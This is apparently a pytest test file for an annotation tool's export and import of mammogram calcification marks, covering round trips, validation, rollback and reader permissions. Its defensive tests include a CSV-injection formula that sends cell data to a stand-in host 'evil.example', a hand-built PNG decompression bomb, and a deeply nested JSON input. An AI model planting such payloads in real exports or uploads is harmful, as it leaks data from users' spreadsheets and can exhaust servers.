"""Export/import: round trips, and every validation case (nothing half-imported)."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import zipfile
from dataclasses import replace
from pathlib import Path

import cv2
import numpy as np
import pandas as pd
import pytest

from mcalc.store import ImageMarks, MarkStore, StoreError
from mcalc.store.exchange import (
    CSV_COLUMNS,
    ExportError,
    ImportValidationError,
    LazyShapes,
    apply_import,
    audit_csv,
    coco_dict,
    coco_json,
    import_refusal,
    marks_json_text,
    marks_mask,
    mask_png,
    masks_zip,
    parse_coco,
    parse_json,
    parse_marks_json,
    parse_mask_png,
    parse_points_csv,
    points_csv,
)

K1, K2 = "case-1/CC_recent", "case-2/MLO_prior"
IMAGES = {K1: (100, 80), K2: (60, 50)}


def _marks() -> ImageMarks:
    m = ImageMarks(K1, "ann", image_shape=IMAGES[K1])
    m = m.add_point(10, 20, "suspicious", "bright, irregular").add_point(50.5, 30.25, "benign")
    return m.add_region("cluster", [(5, 5), (5, 40), (40, 40), (40, 5)], "suspicious", "c1")


def _problems(plan) -> str:
    return "\n".join(str(p) for p in plan.report.problems)


# --------------------------------------------------------------------------- round trips


def test_csv_round_trip():
    m = _marks()
    text = points_csv([m])
    # UTF-8 with a byte-order mark (Excel reads UTF-8 by it); the import takes it as bytes
    # or as text.
    assert text.splitlines()[0] == "\ufeff" + ",".join(CSV_COLUMNS)
    assert parse_points_csv(text.encode("utf-8"), IMAGES).report.ok
    plan = parse_points_csv(text, IMAGES)
    assert plan.report.ok, plan.report.text()
    (back,) = plan.marks
    assert back.reader == "ann" and [
        (p.id, p.row, p.col, p.label, p.comment) for p in back.points
    ] == [(p.id, p.row, p.col, p.label, p.comment) for p in m.points]


def test_coco_round_trip_points_and_regions():
    m = _marks()
    doc = coco_dict([m])
    assert [c["name"] for c in doc["categories"]] == ["calcification", "cluster", "roi"]
    img = doc["images"][0]
    assert (img["height"], img["width"], img["file_name"]) == (100, 80, K1)
    point = doc["annotations"][0]
    assert point["keypoints"] == [20.5, 10.5, 2] and point["bbox"][2] == 6.0
    plan = parse_coco(coco_json([m]), IMAGES)
    assert plan.report.ok, plan.report.text()
    (back,) = plan.marks
    assert [(p.id, p.row, p.col, p.label) for p in back.points] == [
        (p.id, p.row, p.col, p.label) for p in m.points
    ]
    assert back.regions[0].polygon == m.regions[0].polygon and back.regions[0].kind == "cluster"


def test_mask_png_round_trip_is_aligned_to_the_image():
    m = ImageMarks(K1, "ann", image_shape=IMAGES[K1]).add_point(10, 20).add_point(70, 60)
    mask = marks_mask(m, point_radius_px=2, regions=False)
    assert mask.shape == IMAGES[K1] and mask[10, 20] and mask[70, 60] and not mask[40, 40]
    png = mask_png(mask)
    decoded = cv2.imdecode(np.frombuffer(png, np.uint8), cv2.IMREAD_UNCHANGED)
    assert decoded.shape == IMAGES[K1] and set(np.unique(decoded)) == {0, 255}
    plan = parse_mask_png(png, K1, IMAGES, reader="bob")
    assert plan.report.ok
    assert sorted((round(p.row), round(p.col)) for p in plan.marks[0].points) == [
        (10, 20),
        (70, 60),
    ]


def test_a_mask_of_stored_marks_imported_again_doubles_nothing(tmp_path):
    """A reader's exported point mask imported back added every mark a second time, half a
    pixel from the first (the disc is centred on the rounded pixel) and labelled "uncertain":
    a mask carries no ids (a user check, 6 December 2026). A mask point at a stored point's
    place, saying nothing more, is that point; a point elsewhere is still added."""
    store = MarkStore(tmp_path)
    m = ImageMarks(K1, "ann", image_shape=IMAGES[K1]).add_point(10.3, 20.6, "suspicious", "x")
    store.save(m.add_point(70.5, 60.2, "benign"), base_version=0)
    z = zipfile.ZipFile(io.BytesIO(masks_zip([store.load(K1, "ann").marks])))
    points = z.read(next(n for n in z.namelist() if n.endswith("_points.png")))
    plan = parse_mask_png(points, K1, IMAGES, reader="ann")
    assert plan.report.ok and len(plan.marks[0].points) == 2
    assert apply_import(store, plan) == []  # the same marks: no new version
    assert apply_import(store, plan, mode="replace") == []
    more = ImageMarks(K1, "ann", image_shape=IMAGES[K1]).add_point(10, 21).add_point(40, 40)
    more = marks_mask(more, regions=False)
    plan = parse_mask_png(mask_png(more), K1, IMAGES, reader="ann")
    assert apply_import(store, plan) == [(K1, "ann", 2)]
    got = store.load(K1, "ann").marks.points
    assert sorted((p.row, p.col, p.label) for p in got) == [
        (10.3, 20.6, "suspicious"),
        (40.0, 40.0, "uncertain"),
        (70.5, 60.2, "benign"),
    ]


def test_masks_zip_has_two_masks_per_image_and_an_index():
    z = zipfile.ZipFile(io.BytesIO(masks_zip([_marks()])))
    names = z.namelist()
    assert len([n for n in names if n.endswith(".png")]) == 2 and "index.csv" in names
    index = pd.read_csv(z.open("index.csv"))
    assert set(index["kind"]) == {"points", "regions"} and (index["rows"] == 100).all()


def test_audit_csv():
    frame = pd.DataFrame([{"model_id": "m", "image_key": K1, "score_verdict": "agree"}])
    assert audit_csv(frame).splitlines()[1] == f"m,{K1},agree"
    with pytest.raises(ExportError, match="no audit verdicts"):
        audit_csv(frame.iloc[0:0])


FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"see")'


def test_a_comment_a_spreadsheet_would_run_is_exported_as_text_and_read_back():
    """CSV injection: a reader's comment starting with '=' (or +, -, @) became a formula in
    the Excel of whoever opened the export."""
    m = ImageMarks(K1, "ann", image_shape=IMAGES[K1]).add_point(10, 20, "benign", FORMULA)
    m = m.add_point(30, 20, "benign", "-1 ok")
    text = points_csv([m])
    cells = [row[6] for row in csv.reader(io.StringIO(text))][1:]
    assert cells == ["'" + FORMULA, "'-1 ok"]
    plan = parse_points_csv(text, IMAGES)
    assert plan.report.ok, plan.report.text()
    assert [p.comment for p in plan.marks[0].points] == [FORMULA, "-1 ok"]


def test_the_audit_export_writes_readers_text_as_text_and_scores_as_numbers():
    frame = pd.DataFrame(
        [{"model_id": "m", "reader": "@ann", "comment": FORMULA, "score": -0.5, "agree": True}]
    )
    (row,) = list(csv.DictReader(io.StringIO(audit_csv(frame).removeprefix("\ufeff"))))
    assert row == {
        "model_id": "m",
        "reader": "'@ann",
        "comment": "'" + FORMULA,
        "score": "-0.5",
        "agree": "True",
    }


@pytest.mark.parametrize("export", [points_csv, coco_dict, masks_zip])
def test_export_of_an_image_without_marks_is_a_clear_error(export):
    with pytest.raises(ExportError, match=r"no (calcification points|marks) to export"):
        export([ImageMarks(K1, "ann", image_shape=IMAGES[K1])])


def test_export_needs_the_image_size():
    with pytest.raises(ExportError, match="image size unknown"):
        coco_dict([ImageMarks(K1, "ann").add_point(1, 1)])


# --------------------------------------------------------------------------- validation

CSV_HEAD = "image_key,reader,point_id,row,col,label,comment\n"

CSV_CASES = [
    (
        "unknown image",
        f"{CSV_HEAD}nope/CC_prior,ann,,1,1,benign,\n",
        "unknown image 'nope/CC_prior'",
    ),
    ("row out of range", f"{CSV_HEAD}{K1},ann,,100,1,benign,\n", "outside case-1/CC_recent"),
    ("negative col", f"{CSV_HEAD}{K1},ann,,5,-3,benign,\n", "outside"),
    ("not a number", f"{CSV_HEAD}{K1},ann,,five,1,benign,\n", "row must be a number"),
    ("nan", f"{CSV_HEAD}{K1},ann,,nan,1,benign,\n", "row must be finite"),
    ("bad label", f"{CSV_HEAD}{K1},ann,,5,5,malignant,\n", "unknown label 'malignant'"),
    ("empty key", f"{CSV_HEAD},ann,,5,5,benign,\n", "image key is empty"),
    ("duplicate id", f"{CSV_HEAD}{K1},ann,p1,5,5,,\n{K1},ann,p1,6,6,,\n", "appears twice"),
    ("too many values", f"{CSV_HEAD}{K1},ann,,5,5,benign,x,extra\n", "more than the header"),
    ("missing columns", "key,x,y\nfoo,1,2\n", "missing columns image_key, row, col"),
    ("header only", CSV_HEAD, "no rows"),
    ("no reader", "image_key,row,col\n" + f"{K1},5,5\n", "no reader named"),
    ("empty file", "", "missing column"),
    ("not utf-8", b"image_key,row,col\n\xff\xfe,1,1\n", "not UTF-8"),
]


@pytest.mark.parametrize("name, data, message", CSV_CASES, ids=[c[0] for c in CSV_CASES])
def test_csv_validation(name, data, message):
    plan = parse_points_csv(data, IMAGES)
    assert not plan.report.ok and plan.marks == ()
    assert message in _problems(plan)


def test_a_semicolon_csv_with_decimal_commas_is_read():
    """A points CSV opened and saved by a spreadsheet in a European locale was refused with
    "missing column(s) image_key, row, col (found image_key;row;col)"."""
    text = points_csv([_marks()]).replace(",", ";").replace("50.5", "50,5")
    text = text.replace("30.25", "30,25")
    plan = parse_points_csv(text, IMAGES)
    assert plan.report.ok, _problems(plan)
    [m] = plan.marks
    assert [(p.row, p.col, p.label) for p in m.points] == [
        (p.row, p.col, p.label) for p in _marks().points
    ]


def test_csv_report_lists_every_problem_with_its_line():
    data = f"{CSV_HEAD}{K1},ann,,5,5,benign,\nbad/x,ann,,1,1,,\n{K1},ann,,999,1,,\n{K2},ann,,1,1,maybe,\n"
    plan = parse_points_csv(data, IMAGES)
    assert [p.where for p in plan.report.problems] == ["line 3", "line 4", "line 5"]
    assert "nothing was imported" in plan.report.text()


def _coco(**changes) -> dict:
    doc = coco_dict([_marks()])
    for path, value in changes.items():
        target = doc
        keys = path.split("__")
        for k in keys[:-1]:
            target = target[int(k)] if k.isdigit() else target[k]
        target[int(keys[-1]) if keys[-1].isdigit() else keys[-1]] = value
    return doc


COCO_CASES = [
    ("wrong size", _coco(images__0__height=200), "wrong size for case-1/CC_recent"),
    (
        "unknown image",
        _coco(images__0__file_name="x", images__0__mcalc_key="x"),
        "unknown image 'x'",
    ),
    ("point out of range", _coco(annotations__0__keypoints=[500, 5, 2]), "outside"),
    ("polygon out of range", _coco(annotations__2__segmentation=[[1, 1, 900, 1, 5, 5]]), "outside"),
    ("short polygon", _coco(annotations__2__segmentation=[[1, 1, 2, 2]]), ">= 3 x, y pairs"),
    ("bad category", _coco(annotations__0__category_id=42), "category_id 42"),
    ("unknown category name", _coco(categories__1__name="mass"), "unknown category 'mass'"),
    ("dangling image id", _coco(annotations__1__image_id=7), "image_id 7"),
    (
        "bad label",
        _coco(annotations__0__attributes={"label": "bad", "reader": "ann"}),
        "unknown label",
    ),
    ("keypoints not numbers", _coco(annotations__0__keypoints=["a", "b"]), "must be a number"),
    ("no geometry", _coco(annotations__0__keypoints=None), "keypoints must be a non-empty list"),
    ("images not a list", _coco(images={}), "'images' must be a list"),
]


@pytest.mark.parametrize("name, doc, message", COCO_CASES, ids=[c[0] for c in COCO_CASES])
def test_coco_validation(name, doc, message):
    plan = parse_coco(json.dumps(doc), IMAGES)
    assert not plan.report.ok and plan.marks == ()
    assert message in _problems(plan), _problems(plan)


@pytest.mark.parametrize(
    "data, message",
    [
        ("{not json", "not valid JSON"),
        ("[1, 2]", "expected a COCO JSON object"),
        ("{}", "expected COCO JSON: an object with 'images', 'annotations' and 'categories'"),
        ('{"foo": 1}', "(keys found: 'foo')"),
        ('{"images": [], "annotations": []}', "'categories' must be a list (COCO layout): missing"),
    ],
)
def test_malformed_coco_files(data, message):
    plan = parse_coco(data, IMAGES)
    assert message in _problems(plan)


def test_parse_coco_names_a_marks_json_and_where_it_is_read():
    """Annotate's *Marks JSON* download given to the COCO reader read "'images' must be a
    list (COCO layout), got NoneType" three times; it says what the file is and which
    reader takes it (Annotate's import goes through parse_json, which does)."""
    plan = parse_coco(json.dumps(_marks().to_payload(), indent=1), IMAGES, source="m.json")
    assert not plan.report.ok and plan.marks == ()
    (problem,) = plan.report.problems
    assert "this is a marks JSON" in str(problem) and "parse_json" in str(problem)
    assert "NoneType" not in plan.report.text()


# --------------------------------------------------------------------------- marks JSON


def _marks_json(m: ImageMarks | None = None, **changes) -> str:
    payload = (m or _marks().with_comment("BI-RADS 4 on my read")).to_payload()
    payload.update(changes)
    return json.dumps(payload, indent=1)


def test_marks_json_download_round_trips_through_the_import(tmp_path):
    """Annotate's Marks JSON download (json.dumps of to_payload, indent 1, as the page
    writes it) of stored marks, imported into another store, gives the same marks: ids,
    labels, comments, times and the image comment. Importing it again writes nothing."""
    here = MarkStore(tmp_path / "here")
    store_v = here.save(_marks().with_comment("BI-RADS 4 on my read"), base_version=0)
    stored = here.load(K1, "ann")
    download = json.dumps(stored.marks.to_payload(), indent=1).encode()
    plan = parse_json(download, IMAGES, default_reader="someone", source="m.json")
    assert plan.report.ok, plan.report.text()
    assert plan.report.text() == ("m.json: 2 points and 1 region on 1 image, no problem found")
    assert plan.marks == (stored.marks,)  # the file's reader, not the default
    there = MarkStore(tmp_path / "there")
    assert apply_import(there, plan) == [(K1, "ann", 1)]
    back = there.load(K1, "ann").marks
    assert back == stored.marks and store_v == 1
    assert apply_import(there, plan) == []  # the same file again: not doubled, no version
    assert apply_import(there, plan, mode="replace") == []
    assert [h.action for h in there.history(K1, "ann")] == ["import"]
    # Into a store holding other marks of the reader: they join, each mark once.
    other = ImageMarks(K1, "ann", image_shape=IMAGES[K1]).add_point(3, 3).with_comment("first")
    here.save(other, base_version=stored.version)
    assert apply_import(here, plan) == [(K1, "ann", 3)]
    joined = here.load(K1, "ann").marks
    assert len(joined.points) == 3 and len(joined.regions) == 1
    assert joined.comment == "first\nBI-RADS 4 on my read"
    assert apply_import(here, plan) == []  # again: the comment is not repeated either


def test_all_marks_json_round_trips_several_images(tmp_path):
    """The *All marks JSON* download (a list, one object per image) restores every image's
    marks; one image alone is written as the object the single-image download is."""
    a = _marks().with_comment("look again in 6 months")
    b = ImageMarks(K2, "ann", image_shape=IMAGES[K2]).add_region(
        "roi", [(2, 2), (2, 9), (9, 9)], "benign"
    )
    text = marks_json_text([a, b, ImageMarks(K2, "bob")])  # an empty one is left out
    assert [d["image_key"] for d in json.loads(text)] == [K1, K2]
    assert json.loads(marks_json_text([a])) == a.to_payload()
    plan = parse_json(text.encode(), IMAGES, source="all.json")
    assert plan.report.ok, plan.report.text()
    assert plan.marks == (a, b)
    store = MarkStore(tmp_path)
    assert apply_import(store, plan) == [(K1, "ann", 1), (K2, "ann", 1)]
    assert (store.load(K1, "ann").marks, store.load(K2, "ann").marks) == (a, b)
    assert apply_import(store, plan) == []
    with pytest.raises(ExportError, match="no marks to export as marks JSON"):
        marks_json_text([ImageMarks(K1, "ann")])


@pytest.mark.parametrize(
    "doc, message",
    [
        ([], "the list holds no marks JSON object"),
        ([1], "[0]: expected a marks JSON (Annotate's Marks JSON download)"),
        ("twice", "[1]: case-1/CC_recent / ann appears twice (also [0])"),
        ("bad second", "[1].points[0]: unknown label 'maybe'"),
    ],
)
def test_all_marks_json_validation(doc, message):
    one = _marks().to_payload()
    if doc == "twice":
        other = ImageMarks(K1, "ann", image_shape=IMAGES[K1]).add_point(3, 3).to_payload()
        doc = [one, other]
    elif doc == "bad second":
        other = ImageMarks(K2, "ann", image_shape=IMAGES[K2]).add_point(3, 3).to_payload()
        other["points"][0]["label"] = "maybe"
        doc = [one, other]
    plan = parse_json(json.dumps(doc), IMAGES)
    assert not plan.report.ok and plan.marks == ()
    assert message in _problems(plan), _problems(plan)


def test_unsaved_edits_download_is_importable_too():
    """The "Download unsaved edits (JSON)" file (kept when the store cannot be written) has
    the same layout: it restores the edit."""
    m = ImageMarks(K2, "bob", image_shape=IMAGES[K2]).add_point(5, 6, "benign")
    plan = parse_json(json.dumps(m.to_payload(), indent=1), IMAGES, source="u.json")
    assert plan.report.ok and plan.marks == (m,)


def test_parse_json_still_reads_coco():
    plan = parse_json(coco_json([_marks()]), IMAGES)
    assert plan.report.ok and len(plan.marks[0].points) == 2


def test_a_marks_json_without_reader_takes_the_importing_one():
    payload = _marks().to_payload()
    payload["reader"] = ""
    for p in (*payload["points"], *payload["regions"]):
        p["reader"] = ""
    plan = parse_marks_json(json.dumps(payload), IMAGES, default_reader="bob")
    assert plan.report.ok, plan.report.text()
    assert {m.reader for m in plan.marks} == {"bob"}
    assert {p.reader for p in plan.marks[0].all_marks} == {"bob"}


def _bad_point(**changes):
    point = {**_marks().points[0].to_dict(), **changes}
    return [point]


MARKS_JSON_CASES = [
    ("unknown image", {"image_key": "nope/CC_prior"}, "image_key: unknown image 'nope/CC_prior'"),
    ("unknown image says what to do", {"image_key": "x"}, "open the dataset the file was made on"),
    (
        "another image's size",
        {"image_shape": [120, 80]},
        "image_shape: wrong size for case-1/CC_recent: the file says 120x80, the image is 100x80",
    ),
    ("bad shape", {"image_shape": "big"}, "image_shape: must be [rows, cols], got 'big'"),
    ("points not a list", {"points": {"a": 1}}, "points: must be a list, got dict"),
    ("comment not text", {"comment": 5}, "comment: must be text, got int"),
    ("comment too long", {"comment": "x" * 2001}, "comment must be at most 2000 characters"),
    ("no reader", {"reader": None}, "reader: no reader named"),
    (
        "outside",
        {"points": _bad_point(row=100.0)},
        "points[0]: (100, 20) is outside case-1/CC_recent: expected row 0..99",
    ),
    ("label", {"points": _bad_point(label="maybe")}, "points[0]: unknown label 'maybe'"),
    ("row", {"points": _bad_point(row="ten")}, "points[0]: row must be a number, got 'ten'"),
    ("point not object", {"points": [[1, 2]]}, "points[0]: must be an object, got list"),
    (
        "another reader's mark",
        {"points": _bad_point(reader="carl")},
        "points[0]: the mark's reader is 'carl', the file's is 'ann'",
    ),
    (
        "same id twice",
        {"points": _bad_point() * 2},
        "points[1]: mark id",
    ),
    (
        "region kind",
        {"regions": [{"id": "r", "kind": "blob", "polygon": [[1, 1], [1, 5], [5, 5]]}]},
        "regions[0]: unknown kind 'blob': expected one of cluster, roi",
    ),
    (
        "region of two vertices",
        {"regions": [{"id": "r", "kind": "roi", "polygon": [[1, 1], [1, 5]]}]},
        "regions[0]: polygon needs at least 3 [row, col] vertices, got 2 vertices",
    ),
    (
        "region vertex",
        {"regions": [{"id": "r", "kind": "roi", "polygon": [[1, 1], [1], [5, 5]]}]},
        "regions[0]: polygon[1] must be [row, col], got [1]",
    ),
    (
        "region outside",
        {"regions": [{"id": "r", "kind": "roi", "polygon": [[1, 1], [1, 500], [5, 5]]}]},
        "regions[0]: (1, 500) is outside case-1/CC_recent",
    ),
    ("empty", {"points": [], "regions": [], "comment": ""}, "the file holds no marks"),
]


@pytest.mark.parametrize(
    "name, changes, message", MARKS_JSON_CASES, ids=[c[0] for c in MARKS_JSON_CASES]
)
def test_marks_json_validation(name, changes, message):
    plan = parse_json(_marks_json(**changes), IMAGES, source="m.json")
    assert not plan.report.ok and plan.marks == ()
    assert message in _problems(plan), _problems(plan)
    assert (
        plan.report.text().startswith("m.json: ") and "nothing was imported" in plan.report.text()
    )


@pytest.mark.parametrize(
    "data, message",
    [
        ("{not json", "not valid JSON"),
        ("[1, 2]", "expected a marks JSON (Annotate's Marks JSON download): an object with"),
        ('{"images": []}', "(found keys 'images')"),
    ],
)
def test_malformed_marks_json_files(data, message):
    plan = parse_marks_json(data, IMAGES)
    assert not plan.report.ok and message in _problems(plan), _problems(plan)


def test_a_bad_marks_json_leaves_the_store_as_it_was(tmp_path):
    store = MarkStore(tmp_path)
    store.save(_marks(), base_version=0)
    before = store.records.path_for((K1, "ann")).read_bytes()
    plan = parse_json(_marks_json(points=_bad_point(row=1e6)), IMAGES)
    with pytest.raises(ImportValidationError, match="outside"):
        apply_import(store, plan)
    assert store.records.path_for((K1, "ann")).read_bytes() == before


def test_a_signed_in_reader_cannot_import_another_readers_marks_json(tmp_path):
    store = MarkStore(tmp_path)
    plan = parse_json(_marks_json(), IMAGES, default_reader="bob")  # ann's download
    refusal = import_refusal(plan, "bob")
    assert refusal is not None and "marks of ann; signed in as bob" in refusal
    with pytest.raises(StoreError, match="marks of ann; signed in as bob"):
        apply_import(store, plan, as_reader="bob")
    assert store.readers(K1) == []
    assert import_refusal(plan, "ann") is None


def test_coco_bbox_only_annotations_are_read():
    doc = _coco()
    doc["annotations"][0].pop("keypoints")
    doc["annotations"][2].pop("segmentation")
    plan = parse_coco(json.dumps(doc), IMAGES)
    assert plan.report.ok, plan.report.text()
    assert (
        plan.marks[0].points[0].row == pytest.approx(10)
        and len(plan.marks[0].regions[0].polygon) == 4
    )


MASK_CASES = [
    (
        "wrong size",
        cv2.imencode(".png", np.full((50, 40), 255, np.uint8))[1].tobytes(),
        K1,
        "wrong size",
    ),
    (
        "empty mask",
        cv2.imencode(".png", np.zeros((100, 80), np.uint8))[1].tobytes(),
        K1,
        "no marked",
    ),
    ("not an image", b"this is not a png", K1, "cannot decode"),
    (
        "unknown image",
        cv2.imencode(".png", np.zeros((5, 5), np.uint8))[1].tobytes(),
        "x/CC_prior",
        "unknown image",
    ),
]


@pytest.mark.parametrize("name, data, key, message", MASK_CASES, ids=[c[0] for c in MASK_CASES])
def test_mask_validation(name, data, key, message):
    plan = parse_mask_png(data, key, IMAGES, reader="ann")
    assert not plan.report.ok and message in _problems(plan)


def test_a_mask_whose_header_declares_another_size_is_refused_undecoded(monkeypatch):
    """A PNG of zeros compresses about 1000:1: a few MB uploaded by any reader can declare
    32000x32000 16-bit RGBA (8 GB decoded); its size is read from the header first."""
    import struct
    import zlib

    from mcalc.store.exchange import validate

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        return struct.pack(">I", len(data)) + kind + data + crc

    ihdr = struct.pack(">IIBBBBB", 32000, 32000, 16, 6, 0, 0, 0)
    bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 99))

    def no_decode(*args, **kwargs):
        raise AssertionError("decoded before its size was checked")

    monkeypatch.setattr(validate.cv2, "imdecode", no_decode)
    plan = parse_mask_png(bomb, K1, IMAGES, reader="ann")
    assert not plan.report.ok
    assert "wrong size: the mask is 32000x32000, the image case-1/CC_recent is 100x80" in _problems(
        plan
    )


@pytest.mark.parametrize("parse", [parse_json, parse_coco, parse_marks_json])
@pytest.mark.parametrize("data", [b"[" * 200_000, b'{"a":' * 200_000])
def test_json_nested_too_deeply_is_a_problem_not_a_crash(parse, data):
    """Any reader's upload of '[[[[...' raised RecursionError out of the Annotate page."""
    plan = parse(data, IMAGES, default_reader="ann")
    assert not plan.report.ok and "nested too deeply" in _problems(plan)


# --------------------------------------------------------------------------- applying


def test_apply_adds_to_stored_marks_and_replace_keeps_history(tmp_path):
    store = MarkStore(tmp_path)
    existing = ImageMarks(K1, "ann", image_shape=IMAGES[K1]).add_point(1, 1)
    store.save(existing, base_version=0)
    plan = parse_points_csv(points_csv([_marks()]), IMAGES)
    assert apply_import(store, plan) == [(K1, "ann", 2)]
    assert len(store.load(K1, "ann").marks.points) == 3
    # Same ids again: replaced, not duplicated; the same plan again is what is stored
    # already, so no version is written.
    assert apply_import(store, plan) == []
    assert len(store.load(K1, "ann").marks.points) == 3
    apply_import(store, plan, mode="replace")
    assert len(store.load(K1, "ann").marks.points) == 2
    assert [h.action for h in store.history(K1, "ann")] == ["save", "import", "import"]


def test_an_export_imported_again_writes_nothing_and_an_import_names_who_imported(
    tmp_path, monkeypatch
):
    """Importing a reader's unchanged points CSV wrote a new version each time (the import
    stamped every mark with its own time, and the CSV rounds places to 0.01 px), then the
    marks JSON of the same marks another; each version said saved by the marks' reader, not
    by the reader who imported."""
    import mcalc.store.exchange.validate as validate

    store = MarkStore(tmp_path)
    saved = ImageMarks(K1, "reader_a", image_shape=IMAGES[K1]).add_point(10.1234, 20.5678)
    saved = saved.add_point(50.5, 30.25, "benign")
    store.save(saved, base_version=0)
    stored = store.load(K1, "reader_a").marks
    times = (f"2030-01-01T00:00:{n:02d}Z" for n in range(60))  # each call a later time
    monkeypatch.setattr(validate, "utc_now", lambda: next(times))
    for _ in range(2):
        plan = parse_points_csv(points_csv([saved]), IMAGES, default_reader="importer")
        assert apply_import(store, plan, by="importer") == []
    plan = parse_json(marks_json_text([saved]), IMAGES, default_reader="importer")
    assert apply_import(store, plan, by="importer") == []
    assert store.load(K1, "reader_a").version == 1
    assert store.load(K1, "reader_a").marks == stored

    # A changed mark is imported, recorded as by the importing reader.
    moved = replace(saved, points=(replace(saved.points[0], row=12.0), saved.points[1]))
    plan = parse_points_csv(points_csv([moved]), IMAGES, default_reader="importer")
    assert apply_import(store, plan, by="importer") == [(K1, "reader_a", 2)]
    assert [h.saved_by for h in store.history(K1, "reader_a")] == ["reader_a", "importer"]
    assert store.load(K1, "reader_a").marks.points[1] == stored.points[1]  # kept as stored


def test_apply_refuses_a_plan_with_problems(tmp_path):
    store = MarkStore(tmp_path)
    data = f"{CSV_HEAD}{K1},ann,,5,5,benign,\n{K2},ann,,999,1,,\n"
    plan = parse_points_csv(data, IMAGES)
    with pytest.raises(ImportValidationError, match="line 3"):
        apply_import(store, plan)
    assert store.load(K1, "ann").version == 0  # the good line was not imported either


def test_failed_write_midway_rolls_everything_back(tmp_path, monkeypatch):
    store = MarkStore(tmp_path)
    store.save(ImageMarks(K1, "ann", image_shape=IMAGES[K1]).add_point(1, 1), base_version=0)
    before = store.records.path_for((K1, "ann")).read_bytes()
    text = points_csv([_marks(), ImageMarks(K2, "ann", image_shape=IMAGES[K2]).add_point(3, 3)])
    plan = parse_points_csv(text, IMAGES)
    real_replace = os.replace
    calls = {"n": 0}

    def replace_then_fill_up(src, dst):
        # Only the store's own writes count: threads that earlier tests left running (the
        # caches' writers) replace their files through the same os.replace.
        if Path(os.fsdecode(dst)).is_relative_to(tmp_path):
            calls["n"] += 1
            if calls["n"] == 2:  # the second record hits a full disk
                raise OSError(errno.ENOSPC, "No space left on device")
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace_then_fill_up)
    with pytest.raises(StoreError, match="rolled back"):
        apply_import(store, plan)
    monkeypatch.undo()
    assert store.records.path_for((K1, "ann")).read_bytes() == before
    assert store.load(K2, "ann").version == 0


def test_a_rollback_never_takes_away_a_version_saved_after_the_imports(tmp_path, monkeypatch):
    """An import that fails on its second record puts the first back as it was; a version
    the reader saved on top of the import's meanwhile (another tab) was lost with it: the
    rollback wrote the file as it was before the import. Now that record is left as it
    is, and the error says so."""
    store = MarkStore(tmp_path)
    store.save(ImageMarks(K1, "ann", image_shape=IMAGES[K1]).add_point(1, 1), base_version=0)
    text = points_csv([_marks(), ImageMarks(K2, "ann", image_shape=IMAGES[K2]).add_point(3, 3)])
    plan = parse_points_csv(text, IMAGES)
    real_save = MarkStore.save
    tab = MarkStore(tmp_path)  # the reader's other tab

    def save(self, marks, **kwargs):
        if marks.image_key == K2:  # the first record is written: the other tab saves on it
            state = tab.load(K1, "ann")
            tab.save(state.marks.add_point(7, 7, "benign", "from the other tab"),
                     base_version=state.version)  # fmt: skip
            raise StoreError("disk full")
        return real_save(self, marks, **kwargs)

    monkeypatch.setattr(MarkStore, "save", save)
    with pytest.raises(StoreError, match=f"{K1} / ann.*version 3 was saved on top"):
        apply_import(store, plan)
    monkeypatch.undo()
    history = store.history(K1, "ann")
    assert len(history) == 3  # the first save, the import's, the other tab's
    assert any(p.comment == "from the other tab" for p in store.load(K1, "ann").marks.points)
    assert store.load(K2, "ann").version == 0


def test_lazy_shapes_reads_only_what_is_asked():
    calls = []

    def shape_of(key):
        calls.append(key)
        return (10, 20)

    shapes = LazyShapes(["a", "b", "a"], shape_of)
    assert len(shapes) == 2 and "a" in shapes and "z" not in shapes and calls == []
    assert shapes["b"] == (10, 20) and shapes["b"] == (10, 20) and calls == ["b"]
    with pytest.raises(KeyError):
        shapes["z"]


def test_a_signed_in_reader_cannot_import_another_readers_marks(tmp_path):
    store = MarkStore(tmp_path)
    plan = parse_points_csv(points_csv([_marks()]), IMAGES)  # marks of "ann"
    refusal = import_refusal(plan, "bob")  # what a page asks before offering Import
    assert refusal is not None and "marks of ann; signed in as bob" in refusal
    assert import_refusal(plan, "ann") is None and import_refusal(plan, None) is None
    with pytest.raises(StoreError, match="marks of ann; signed in as bob"):
        apply_import(store, plan, as_reader="bob")
    assert store.readers(K1) == []  # nothing written
    assert apply_import(store, plan, as_reader="ann") == [(K1, "ann", 1)]


def test_an_import_with_more_marks_than_an_image_holds_is_refused_before_they_are_made(
    monkeypatch,
):
    """A 1.1 MB mask PNG of a 4096x3328 image with every third pixel set (a noisy map
    taken for a mask) gave 1,516,260 points: 16 s and 1.5 GB to check (again on every
    rerun while it stays in the uploader), a 290 MB record if imported (7 December 2026).
    Past ``MAX_MARKS_PER_IMAGE`` per image and reader an import is refused, a mask before
    its points are made; the limit is patched small here to keep the test fast."""
    from mcalc.store.exchange import validate

    monkeypatch.setattr(validate, "MAX_MARKS_PER_IMAGE", 30)
    dotted = np.zeros(IMAGES[K1], np.uint8)
    dotted[::10, ::10] = 255  # 10 x 8 = 80 separate spots
    made = []
    real = validate.find_calcifications
    monkeypatch.setattr(
        validate, "find_calcifications", lambda *a, **k: made.append(1) or real(*a, **k)
    )
    plan = parse_mask_png(cv2.imencode(".png", dotted)[1].tobytes(), K1, IMAGES, reader="ann")
    assert not plan.report.ok and not plan.marks and not made
    assert "80 marked spots; at most 30 per image are imported" in _problems(plan)

    rows = "".join(f"{K1},ann,{r},{c}\n" for r in range(0, 100, 10) for c in range(0, 80, 10))
    plan = parse_points_csv(("image_key,reader,row,col\n" + rows).encode(), IMAGES)
    assert not plan.report.ok and not plan.marks
    assert f"{K1} / ann: 80 marks; at most 30 per image and reader are imported" in _problems(plan)
    # At the limit, imported.
    monkeypatch.setattr(validate, "MAX_MARKS_PER_IMAGE", 80)
    assert parse_points_csv(("image_key,reader,row,col\n" + rows).encode(), IMAGES).report.ok
